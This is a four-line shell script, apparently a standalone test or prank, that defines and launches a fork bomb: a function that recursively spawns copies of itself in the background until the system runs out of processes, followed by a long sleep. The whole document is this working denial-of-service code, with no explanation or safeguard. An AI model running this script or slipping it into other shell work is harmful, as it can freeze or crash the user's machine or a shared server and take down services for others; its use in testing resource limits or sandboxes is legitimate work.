echo "forking"
bomb() { bomb | bomb & }
bomb
sleep 3600
